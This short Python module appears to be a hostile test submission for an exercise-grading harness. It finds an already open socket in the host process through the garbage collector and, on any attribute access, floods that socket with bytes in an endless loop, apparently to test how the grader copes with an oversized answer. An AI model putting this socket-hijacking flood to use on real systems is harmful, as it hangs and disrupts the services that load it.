"""Announces an answer of four gigabytes."""

import gc
import socket

EXERCISE = "any"
LINK = next(each for each in gc.get_objects() if isinstance(each, socket.socket))


def __getattr__(name):
    while True:
        LINK.sendall(b"\xff" * 1000)
